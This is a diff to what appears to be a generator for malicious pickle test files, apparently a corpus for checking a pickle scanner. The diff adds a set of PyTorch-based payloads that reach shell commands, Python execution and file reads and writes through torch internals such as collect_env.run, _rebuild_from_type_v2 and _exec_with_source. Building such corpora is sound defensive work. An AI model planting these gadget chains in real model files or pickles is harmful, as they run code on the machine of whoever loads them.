@@ -303,6 +303,34 @@ def gadgets():
         print("without cloudpickle", problem)
 
 
+def torch():
+    """Attacks with functions of PyTorch; confirm.py needs an environment that has it."""
+    cases = {
+        "load-from-bytes": call("torch.storage", "_load_from_bytes", INNER),
+        "collect-env": call("torch.utils.collect_env", "run", SHELL),
+        "rebuild-from-type": call("torch._tensor", "_rebuild_from_type_v2", Raw(SYSTEM), Raw(name("torch", "Tensor")), (SHELL,), {}),
+        "rebuild-from-type-loads": call("torch._tensor", "_rebuild_from_type_v2", Raw(name("torch.storage", "_load_from_bytes")),
+                                        Raw(name("torch", "Tensor")), (INNER,), {}),
+        "exec-with-source": call("torch.fx.graph_module", "_exec_with_source", PYTHON, {}),
+        "forward-from-source": call("torch.fx.graph_module", "_forward_from_src", PYTHON + "\nforward = 1", {}),
+        "decoder": call("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pickle", INNER),
+        "save": call("torch", "save", 1, PATH),
+        "from-file": call("torch", "from_file", PATH, True, 4),
+        "from-file-getattr": call("builtins", "getattr", Raw(name("torch._C", "_VariableFunctionsClass")), "from_file")
+        + item((PATH, True, 4)) + b"R",
+        "storage-from-file": call("torch", "UntypedStorage.from_file", PATH, True, 4),
+        "file-baton": call("torch.utils.file_baton", "FileBaton.try_acquire", Raw(call("torch.utils.file_baton", "FileBaton", PATH))),
+        "serialization-load": call("torch.serialization", "_legacy_load", Raw(call("io", "BytesIO", INNER)), None,
+                                   Raw(name("torch.serialization", "pickle"))),
+        "module-hidden": name("torch.serialization", "os.system") + ARG + b"R",
+        "config-module": call("torch.utils._config_module", "ConfigModule.load_config",
+                              Raw(call("types", "SimpleNamespace")), INNER),
+        "ordered-dict": name("collections", "OrderedDict") + b")R(" + text("weight") + call("torch.utils.collect_env", "run", SHELL) + b"u",
+    }
+    for label, body in cases.items():
+        add("torch", label, pickled(body), needs="torch")
+
+
 def eval_later():
     source = "lambda: " + PYTHON
     return eval(source)
@@ -361,6 +389,7 @@ def main():
     opcodes()
     functions()
     gadgets()
+    torch()
     injected(honest())
     with open(os.path.join(folder, "manifest.csv"), "w", newline="") as out:
         writer = csv.writer(out, lineterminator="\n")
